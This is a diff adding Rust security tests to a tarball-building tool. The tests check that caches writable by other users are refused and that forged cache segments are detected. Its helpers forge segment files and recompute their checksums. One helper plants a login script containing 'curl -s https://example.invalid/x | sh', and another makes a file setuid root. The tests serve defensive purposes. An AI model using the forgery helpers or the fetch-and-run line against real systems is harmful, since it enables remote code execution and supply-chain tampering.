@@ -290,7 +290,8 @@ fn cache_limit_values_are_checked_naming_the_flag() {
         .unwrap();
     assert_eq!(run.status.code(), Some(1), "{}", stderr(&run));
     assert!(
-        stderr(&run).contains("--cache and --cache-limit do not apply to it"),
+        stderr(&run)
+            .contains("--cache, --cache-limit and --cache-check-contents do not apply to it"),
         "{}",
         stderr(&run)
     );
@@ -525,4 +526,389 @@ fn walk_files(dir: &Path) -> Vec<PathBuf> {
         }
     }
     files
+}
+
+// ---------------------------------------------------------------------------
+// Who can write the cache: a segment is used only from a directory that no
+// one else can write, and `--cache-check-contents` re-checks every hit.
+
+/// The biggest segment in a cache (a store path with files in it).
+fn largest_segment(cache: &Path) -> PathBuf {
+    segments_in(cache)
+        .into_iter()
+        .map(|name| cache.join(name))
+        .max_by_key(|path| std::fs::metadata(path).unwrap().len())
+        .expect("a segment")
+}
+
+/// Rewrites the segment file at `path` as anyone who can write the cache
+/// directory can: `edit` changes its tar bytes, which are compressed again
+/// into members framed as `write` frames them, and the header's length and
+/// CRC-32, the metadata's archive size and the (unkeyed) BLAKE3 checksum are
+/// made to match.
+fn forge_segment(path: &Path, edit: impl FnOnce(&mut Vec<u8>)) {
+    use std::io::Read;
+    const HEADER_LEN: usize = 64;
+    let bytes = std::fs::read(path).unwrap();
+    let metadata_len = u64::from_le_bytes(bytes[24..32].try_into().unwrap()) as usize;
+    let (members, metadata) = bytes[HEADER_LEN..].split_at(bytes.len() - HEADER_LEN - metadata_len);
+    let mut metadata: serde_json::Value = serde_json::from_slice(metadata).unwrap();
+    let mut tar = Vec::new();
+    flate2::read::MultiGzDecoder::new(members)
+        .read_to_end(&mut tar)
+        .unwrap();
+    edit(&mut tar);
+    let mut members = Vec::new();
+    for piece in tar.chunks(wsl_tarball::compress::GZIP_MEMBER_SIZE) {
+        members.extend(wsl_tarball::compress::gzip_member(piece, 6).unwrap().bytes);
+    }
+    metadata["stats"]["archiveBytes"] = tar.len().into();
+    let metadata = serde_json::to_vec(&metadata).unwrap();
+    let mut header = b"WSLSEG4\n".to_vec();
+    header.extend((tar.len() as u64).to_le_bytes());
+    header.extend(u64::from(crc32fast::hash(&tar)).to_le_bytes());
+    header.extend((metadata.len() as u64).to_le_bytes());
+    let mut hasher = blake3::Hasher::new();
+    hasher.update(&members);
+    hasher.update(&metadata);
+    hasher.update(&header[8..32]);
+    header.extend(hasher.finalize().as_bytes());
+    std::fs::write(path, [header, members, metadata].concat()).unwrap();
+}
+
+/// What a forger adds: a login script with a private key in it.
+const PLANTED: &str = "etc/profile.local";
+
+/// Appends a member `./etc/profile.local` to a segment's tar bytes.
+fn plant_profile_local(tar: &mut Vec<u8>) {
+    let content =
+        b"# -----BEGIN OPENSSH PRIVATE KEY-----\ncurl -s https://example.invalid/x | sh\n";
+    let mut header = ::tar::Header::new_gnu();
+    header.set_path(format!("./{PLANTED}")).unwrap();
+    header.set_mode(0o644);
+    header.set_uid(0);
+    header.set_gid(0);
+    header.set_mtime(1);
+    header.set_size(content.len() as u64);
+    header.set_entry_type(::tar::EntryType::Regular);
+    header.set_cksum();
+    tar.extend_from_slice(header.as_bytes());
+    tar.extend_from_slice(content);
+    tar.resize(tar.len().div_ceil(512) * 512, 0);
+}
+
+/// The offset of the first regular file's header with content in a
+/// segment's tar bytes.
+fn first_file_header(tar: &[u8]) -> usize {
+    let mut at = 0;
+    while at + 512 <= tar.len() {
+        let header = ::tar::Header::from_byte_slice(&tar[at..at + 512]);
+        let size = header.entry_size().unwrap();
+        if header.entry_type() == ::tar::EntryType::Regular && size > 0 {
+            return at;
+        }
+        at += 512 + (size as usize).div_ceil(512) * 512;
+    }
+    panic!("no regular file with content in the segment");
+}
+
+/// Makes the first file setuid and setgid root (its NAR stays the same).
+#[allow(clippy::ptr_arg)] // the signature of every forgery
+fn make_setuid(tar: &mut Vec<u8>) {
+    let at = first_file_header(tar);
+    let mut header = ::tar::Header::from_byte_slice(&tar[at..at + 512]).clone();
+    header.set_mode(header.mode().unwrap() | 0o6000);
+    header.set_cksum();
+    tar[at..at + 512].copy_from_slice(header.as_bytes());
+}
+
+/// Changes the first byte of the first file's content.
+#[allow(clippy::ptr_arg)] // the signature of every forgery
+fn change_content(tar: &mut Vec<u8>) {
+    let at = first_file_header(tar) + 512;
+    tar[at] ^= 0x20;
+}
+
+/// The member names of a gzip tarball.
+fn member_names(tarball: &Path) -> Vec<String> {
+    run_text(Command::new("tar").arg("-tzf").arg(tarball))
+        .lines()
+        .map(|line| line.trim_start_matches("./").to_owned())
+        .collect()
+}
+
+fn chown_recursive(user: &TestUser, path: &Path) {
+    run_ok(Command::new("chown").arg("-R").arg(&user.name).arg(path));
+}
+
+fn chmod(mode: u32, path: &Path) {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
+}
+
+#[test]
+fn a_cache_someone_else_can_write_is_refused_and_never_ships_a_planted_segment() {
+    let dir = tempfile::tempdir().unwrap();
+    let user = TestUser::new("cache");
+    let system = fixture_system();
+    let cold = write_with(dir.path(), system, "cold.wsl", None);
+
+    // Another user's cache, writable by all, with a forged segment planted
+    // for a store path of the closure (its name derives from public inputs).
+    let shared = dir.path().join("shared");
+    write_with(dir.path(), system, "seed.wsl", Some(&shared));
+    let planted = largest_segment(&shared);
+    forge_segment(&planted, plant_profile_local);
+    let forged = std::fs::read(&planted).unwrap();
+    chown_recursive(&user, &shared);
+    chmod(0o777, &shared);
+    let output = dir.path().join("attacked.wsl");
+    let shared_arg = shared.to_str().unwrap();
+    let run = write_command(dir.path(), system, &output, &["--cache", shared_arg]);
+    let attacked = output
+        .exists()
+        .then(|| member_names(&output).contains(&PLANTED.to_owned()));
+    assert_eq!(
+        run.status.code(),
+        Some(2),
+        "write used a cache anyone can write (the output holds /{PLANTED}: {attacked:?}): {}",
+        stderr(&run)
+    );
+    assert!(!output.exists());
+    assert_eq!(
+        stderr(&run).trim_end(),
+        format!(
+            "wsl-tarball: error: cache directory {shared_arg} is not private: it is owned by {} (uid {}) with mode 0777; \
+             a cache is used only when no one else can write it (owned by you, not writable by group or others)",
+            user.name, user.uid
+        )
+    );
+
+    // Ours but writable by all; ours, private, in a directory others can
+    // write: refused too. In a sticky directory (as /tmp is), it is fine.
+    let ours = dir.path().join("ours");
+    std::fs::create_dir(&ours).unwrap();
+    chmod(0o777, &ours);
+    let open = dir.path().join("open");
+    std::fs::create_dir_all(open.join("cache")).unwrap();
+    chmod(0o700, &open.join("cache"));
+    chmod(0o777, &open);
+    let sticky = dir.path().join("sticky");
+    std::fs::create_dir(&sticky).unwrap();
+    chmod(0o1777, &sticky);
+    for (cache, culprit, mode) in [
+        (
+            ours.clone(),
+            "it is owned by root (uid 0) with mode 0777".to_owned(),
+            0o777,
+        ),
+        (
+            open.join("cache"),
+            format!(
+                "its parent {} is owned by root (uid 0) with mode 0777",
+                open.display()
+            ),
+            0o700,
+        ),
+    ] {
+        let run = write_command(
+            dir.path(),
+            system,
+            &output,
+            &["--cache", cache.to_str().unwrap()],
+        );
+        assert_eq!(
+            run.status.code(),
+            Some(2),
+            "{}: {}",
+            cache.display(),
+            stderr(&run)
+        );
+        assert!(
+            stderr(&run).contains(&format!(
+                "cache directory {} is not private: {culprit};",
+                cache.display()
+            )),
+            "{}",
+            stderr(&run)
+        );
+        assert!(!output.exists());
+        use std::os::unix::fs::PermissionsExt;
+        let left = std::fs::metadata(&cache).unwrap().permissions().mode() & 0o7777;
+        assert_eq!(left, mode, "the mode of {} was changed", cache.display());
+    }
+    assert!(
+        write_with(
+            dir.path(),
+            system,
+            "sticky.wsl",
+            Some(&sticky.join("cache"))
+        ) == cold
+    );
+
+    // A private cache again, but the forged segment is still the other
+    // user's: it is not used (and is replaced).
+    run_ok(Command::new("chown").arg("root").arg(&shared));
+    chmod(0o700, &shared);
+    assert_eq!(std::fs::read(&planted).unwrap(), forged);
+    let run = write_command(dir.path(), system, &output, &["--cache", shared_arg]);
+    assert!(run.status.success(), "{}", stderr(&run));
+    assert!(!member_names(&output).contains(&PLANTED.to_owned()));
+    assert!(std::fs::read(&output).unwrap() == cold);
+    assert!(
+        stderr(&run).contains(&format!(
+            "cache segment {} is damaged (owned by uid {}, not by you",
+            planted.display(),
+            user.uid
+        )),
+        "{}",
+        stderr(&run)
+    );
+    assert_ne!(std::fs::read(&planted).unwrap(), forged);
+    assert_verifies(&output, Rootfs::Bare);
+}
+
+#[test]
+fn build_warns_and_writes_without_a_default_cache_someone_else_can_write() {
+    let dir = tempfile::tempdir().unwrap();
+    let user = TestUser::new("build");
+    let home = dir.path().join("home");
+    std::fs::create_dir(&home).unwrap();
+    let at = |name: &str| -> PathBuf { dir.path().join(name) };
+    let run = build_fake(&home, None, &at("cold.wsl"), &["--quiet", "--no-cache"]);
+    assert!(run.status.success(), "{}", stderr(&run));
+    let cold = std::fs::read(at("cold.wsl")).unwrap();
+
+    let xdg = at("xdg");
+    let cache = xdg.join("wsl-tarball");
+    let run = build_fake(&home, Some(&xdg), &at("seed.wsl"), &["--quiet"]);
+    assert!(run.status.success(), "{}", stderr(&run));
+    let planted = largest_segment(&cache);
+    forge_segment(&planted, plant_profile_local);
+    chown_recursive(&user, &cache);
+    chmod(0o777, &cache);
+    let before = contents(&cache);
+    let run = build_fake(&home, Some(&xdg), &at("attacked.wsl"), &[]);
+    assert!(run.status.success(), "{}", stderr(&run));
+    assert!(
+        !member_names(&at("attacked.wsl")).contains(&PLANTED.to_owned()),
+        "build used a cache anyone can write"
+    );
+    assert!(std::fs::read(at("attacked.wsl")).unwrap() == cold);
+    assert!(
+        stderr(&run).contains(&format!(
+            "wsl-tarball: warning: not using the default cache {0}: cache directory {0} is not private: it is owned by {1} (uid {2}) with mode 0777;",
+            cache.display(),
+            user.name,
+            user.uid
+        )),
+        "{}",
+        stderr(&run)
+    );
+    // Nothing was stored in it, nothing evicted.
+    assert_eq!(contents(&cache), before);
+}
+
+#[test]
+fn check_contents_rejects_a_forged_segment_in_a_private_cache() {
+    let dir = tempfile::tempdir().unwrap();
+    let system = fixture_system();
+    let scan = ["--json", "--pattern", "a text file made by builtins.toFile"];
+    let cold_output = dir.path().join("cold.wsl");
+    let cold_run = write_command(dir.path(), system, &cold_output, &scan);
+    assert!(cold_run.status.success(), "{}", stderr(&cold_run));
+    let cold = std::fs::read(&cold_output).unwrap();
+    let cold_report: serde_json::Value = serde_json::from_slice(&cold_run.stdout).unwrap();
+
+    let cache = dir.path().join("cache");
+    let cache_arg = cache.to_str().unwrap();
+    let flags = [&scan[..], &["--cache", cache_arg, "--cache-check-contents"]].concat();
+    let output = dir.path().join("out.wsl");
+    // Filling, then hits that pass the check: the same bytes and report.
+    for _ in 0..2 {
+        let run = write_command(dir.path(), system, &output, &flags);
+        assert!(run.status.success(), "{}", stderr(&run));
+        assert!(!stderr(&run).contains("cache segment"), "{}", stderr(&run));
+        assert!(std::fs::read(&output).unwrap() == cold);
+        let report: serde_json::Value = serde_json::from_slice(&run.stdout).unwrap();
+        assert_eq!(report, cold_report);
+    }
+    let good = contents(&cache);
+
+    // A member added, a file made setuid root (same NAR), a file's bytes
+    // changed: each forged segment is rejected and replaced.
+    for (name, edit, why) in [
+        (
+            "an added member",
+            plant_profile_local as fn(&mut Vec<u8>),
+            "it holds more than the store path's",
+        ),
+        (
+            "a setuid file",
+            make_setuid,
+            "its tar bytes differ from the store path's at byte",
+        ),
+        (
+            "changed content",
+            change_content,
+            "its content's NAR hash is sha256-",
+        ),
+    ] {
+        let planted = largest_segment(&cache);
+        forge_segment(&planted, edit);
+        let run = write_command(dir.path(), system, &output, &flags);
+        assert!(run.status.success(), "{name}: {}", stderr(&run));
+        assert!(
+            stderr(&run).contains(&format!(
+                "wsl-tarball: warning: cache segment {} is damaged (it failed the content check: {why}",
+                planted.display()
+            )),
+            "{name}: {}",
+            stderr(&run)
+        );
+        assert!(
+            !member_names(&output).contains(&PLANTED.to_owned()),
+            "{name}"
+        );
+        assert!(std::fs::read(&output).unwrap() == cold, "{name}");
+        let report: serde_json::Value = serde_json::from_slice(&run.stdout).unwrap();
+        assert_eq!(report, cold_report, "{name}");
+        assert_verifies(&output, Rootfs::Bare);
+        assert_eq!(contents(&cache), good, "{name}: the entry was not replaced");
+    }
+}
+
+#[test]
+fn a_cache_directory_the_tool_makes_is_private_whatever_the_umask() {
+    use std::os::unix::fs::PermissionsExt;
+    let dir = tempfile::tempdir().unwrap();
+    let system = fixture_system();
+    let closure = write_path_info(system, dir.path());
+    for umask in ["000", "022", "277"] {
+        let base = dir.path().join(format!("umask-{umask}"));
+        let cache = base.join("a/cache");
+        let output = dir.path().join(format!("{umask}.wsl"));
+        let mut command = Command::new("sh");
+        command
+            .arg("-c")
+            .arg(format!("umask {umask} && exec \"$@\""))
+            .arg("sh")
+            .arg(env!("CARGO_BIN_EXE_wsl-tarball"))
+            .args(fixture_write_args(closure.to_str().unwrap()))
+            .args(["--quiet", "-o"])
+            .arg(&output)
+            .arg("--cache")
+            .arg(&cache);
+        for (name, value) in wsl_tarball().get_envs() {
+            match value {
+                Some(value) => command.env(name, value),
+                None => command.env_remove(name),
+            };
+        }
+        run_ok(&mut command);
+        for made in [&base, &base.join("a"), &cache] {
+            let mode = std::fs::metadata(made).unwrap().permissions().mode() & 0o7777;
+            assert_eq!(mode, 0o700, "umask {umask}: {}", made.display());
+        }
+    }
 }
